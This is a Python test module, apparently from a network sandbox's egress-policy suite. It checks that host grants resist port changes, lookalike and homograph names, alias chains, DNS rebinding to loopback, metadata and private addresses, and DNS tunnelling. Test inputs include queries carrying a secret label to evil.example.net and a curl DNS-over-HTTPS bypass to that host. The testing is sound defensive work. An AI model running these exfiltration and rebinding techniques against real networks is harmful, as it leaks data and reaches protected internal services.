# SPDX-License-Identifier: Apache-2.0
"""Names: other ones, other spellings, other answers, and questions that carry something out."""

import re

import servers
from attacks import attack, tool
from servers import Rebinding
from world import (ATTACKER, ATTACKER6, METADATA, NAT64_LOOPBACK, NAT64_PRIVATE, OPEN_RESOLVER,
                   PRIVATE, WEB)

WEB_80 = ["web.example.com:80"]


@attack("another port of a granted host")
def another_port(stage):
    stage.held(tool("get web.example.com 80", "get web.example.com 8080"), WEB_80,
               see="web.example.com:8080", control="get: web HTTP/1.1",
               record="web.example.com:8080")


@attack("the parent, a child and a sibling of a granted name")
def relatives(stage):
    for name in ("example.com", "a.web.example.com", "other.example.com", "xweb.example.com"):
        if name in servers.ZONE:
            stage.bare(tool(f"get {name} 80"), see="HTTP/1.1")
        stage.inside(tool(f"get {name} 80"), WEB_80, query=name, see="HTTP/1.1", record=name)


@attack("a wildcard does not cover its own name, nor one that only ends the same")
def wildcard(stage):
    net = ["*.wild.example.com:80"]
    for name in ("wild.example.com", "evilwild.example.com", "wild.example.com.evil.example.net"):
        stage.inside(tool("get shop.wild.example.com 80", f"ask {name}"), net, query=f"^{name}",
                     control="get: web HTTP/1.1", record=name)


@attack("a name that looks the same")
def homograph(stage):
    for name in ("wеb.example.com", "xn--wb-nlc.example.com"):
        stage.held(tool(f"get {name} 80"), WEB_80, server="attacker", query="xn--wb-nlc",
                   record="xn--wb-nlc.example.com")


@attack("a granted name with capitals, and with a dot at its end, is the same name")
def same_name(stage):
    stage.works(tool("get WEB.Example.COM 80 web.example.com",
                     "get web.example.com. 80 web.example.com"), WEB_80, see="web HTTP/1.1")
    stage.works(tool("get web.example.com 80 WEB.example.com"), WEB_80, see="web HTTP/1.1")


@attack("a name with no time to live is asked for again, and works")
def no_time_to_live(stage):
    stage.works(tool("get ttl0.example.com 80", "get ttl0.example.com 80"), ["ttl0.example.com:80"],
                see="ttl0.example.com")


@attack("an alias to a name that the policy denies")
def denied_alias(stage):
    stage.held(tool("get web.example.com 80", "get to-evil.example.com 80"),
               {"allow": ["*.example.com:80"], "deny": ["evil.example.net"]},
               server="attacker", control="get: web HTTP/1.1", record="evil")


@attack("an alias that leads to itself")
def endless_alias(stage):
    stage.inside(tool("get loop.example.com 80", "get web.example.com 80"), ["*.example.com:80"],
                 see="get: sink", control="get: web HTTP/1.1")


REFUSES = "93.184.216.50"
# What the name leads to the second time, and who must not be reached there.
REBOUND = {"127.0.0.1": "loopback", "0.0.0.0": "loopback", METADATA: "metadata", PRIVATE: "private",
           "::1": "loopback", "::": "loopback", "::ffff:127.0.0.1": "loopback",
           NAT64_LOOPBACK: "nat64", NAT64_PRIVATE: "nat64"}


def rebinding(number, address, server):
    name = f"rebind{number}.example.com"

    def again(stage):
        """Questions for A and AAAA come in pairs: the first pair is for the first connection."""
        run = tool(f"get {name} 80", f"get {name} 80")
        servers.ZONE[name] = Rebinding([WEB], [address])
        stage.bare(run, server=server)
        servers.ZONE[name] = Rebinding([WEB], [address])
        stage.inside(run, [f"{name}:80"], server=server, control="get: web HTTP/1.1", record=name)

    def beside(stage):
        servers.ZONE[name] = Rebinding([REFUSES, address])
        stage.held(tool("get web.example.com 80", f"get {name} 80"), [*WEB_80, f"{name}:80"],
                   server=server, control="get: web HTTP/1.1")

    attack(f"rebinding: {address} the second time")(again)
    attack(f"rebinding: {address} beside a public address where nobody is")(beside)


for _number, (_address, _server) in enumerate(REBOUND.items()):
    rebinding(_number, _address, _server)


@attack("network.private: a name leads to a private address, another one and another port do not")
def private_name(stage):
    for name in ("inner", "beside"):
        servers.ZONE[f"{name}.example.com"] = servers.both(PRIVATE, PRIVATE)[:1]
    net = {"allow": ["*.example.com:80"], "private": ["inner.example.com:80"]}
    run = tool("get inner.example.com 80")
    stage.works(run, net, see="get: sink private")
    result = stage.inside(run, ["inner.example.com:80"], server="private", record="inner.example.com")
    line = re.search(r"to allow it: (--net-private \S+)\n", result.err) if result else None
    if result:
        stage.expect(line, "no line is suggested")
        stage.works(run, [line[1] if line else "none"], see="get: sink private")
    stage.held(tool("get web.example.com 80", "get beside.example.com 80"), net, server="private",
               control="get: web HTTP/1.1", record="beside.example.com")
    stage.held(tool("get web.example.com 80", "get inner.example.com 80"),
               {"allow": ["*.example.com:80"], "private": ["inner.example.com:81"]},
               server="private", control="get: web HTTP/1.1", record="inner.example.com")


@attack("network.private: a name that is rebound to loopback, metadata or a denied range")
def private_rebound(stage):
    for number, (address, server) in enumerate(REBOUND.items()):
        if address in (PRIVATE, NAT64_PRIVATE):
            continue
        name = f"bound{number}.example.com"
        run = tool(f"get {name} 80", f"get {name} 80")
        servers.ZONE[name] = Rebinding([WEB], [address])
        stage.bare(run, server=server)
        servers.ZONE[name] = Rebinding([WEB], [address])
        stage.inside(run, {"private": [f"{name}:80"]}, server=server, control="get: web HTTP/1.1",
                     record=name)
    servers.ZONE["kept.example.com"] = servers.both(PRIVATE, PRIVATE)[:1]
    stage.held(tool("get web.example.com 80", "get kept.example.com 80"),
               {"allow": WEB_80, "private": ["kept.example.com:80"], "deny": ["10.1.0.0/16"]},
               server="private", control="get: web HTTP/1.1", record="kept.example.com")


@attack("a name that is granted anywhere leads to the address of a denied range")
def denied_range(stage):
    servers.ZONE["lead.example.com"] = servers.both(ATTACKER, ATTACKER6, ttl=0)
    stage.held(tool("get web.example.com 80", "get lead.example.com 80"),
               {"allow": ["*:80"], "deny": ["185.220.0.0/16", "2a0b:f4c2::/32"]}, server="attacker",
               control="get: web HTTP/1.1", record="lead.example.com")


# -- questions as a way out --

@attack("data in questions: a name that is not granted never arrives anywhere")
def tunnel(stage):
    secret = "secret-4f1c"
    for run in (tool(f"ask {secret}.evil.example.net"), tool(f"ask {secret}.web.example.com"),
                tool(f"dns {ATTACKER} 53 {secret}.evil.example.net"),
                tool(f"dns {ATTACKER6} 53 {secret}.evil.example.net 28"),
                tool(f"dns {ATTACKER} 53 {secret}.evil.example.net 1 tcp"),
                tool(f"dns {OPEN_RESOLVER} 53 {secret}.evil.example.net 16"),
                tool(f"dns {OPEN_RESOLVER} 53 {secret}.evil.example.net 16 tcp")):
        stage.held(run, ["web.example.com:443"], query=secret, record=secret)


@attack("data in questions: a name below a wildcard is only asked for when it is connected to")
def tunnel_below_wildcard(stage):
    secret = "secret-77ab"
    run = tool(f"ask {secret}.wild.example.com", "dns 9.9.9.9 53 x.wild.example.com 16",
               "get shop.wild.example.com 80")
    stage.held(run, ["*.wild.example.com:80"], query=secret, control="get: web HTTP/1.1")


@attack("a name server of one's own, on another port")
def own_server(stage):
    for address in (ATTACKER, ATTACKER6):
        for by in ("udp", "tcp"):
            stage.held(tool(f"dns {address} 5353 web.example.com 1 {by}"), WEB_80,
                       server="evil names", record="5353")


@attack("DNS over HTTPS without a grant")
def over_https(stage):
    run = "curl -sS -k --doh-url https://evil.example.net/dns-query http://web.example.com/; true"
    stage.held(run, WEB_80, server="attacker", record="evil.example.net")


@attack("any name server that is asked on port 53 answers, with what is granted")
def any_server(stage):
    stage.inside(tool("dns 9.9.9.9 53 web.example.com", f"dns {ATTACKER} 53 web.example.com",
                      f"dns {ATTACKER6} 53 web.example.com 28 tcp",
                      "dns 127.0.0.53 53 web.example.com"),
                 WEB_80, server="evil names", query="web",
                 control="dns: code 0, 1 records\n" * 4)


@attack("what is not granted does not exist; what is above a granted name is empty")
def answers(stage):
    stage.inside(tool("dns 9.9.9.9 53 nothing.example.com", "dns 9.9.9.9 53 example.com",
                      "dns 9.9.9.9 53 web.example.com 65", "dns 9.9.9.9 53 web.example.com 16",
                      "dns 9.9.9.9 53 com 2"), WEB_80, query="example",
                 control="dns: code 3, 0 records\n" + "dns: code 0, 0 records\n" * 4)
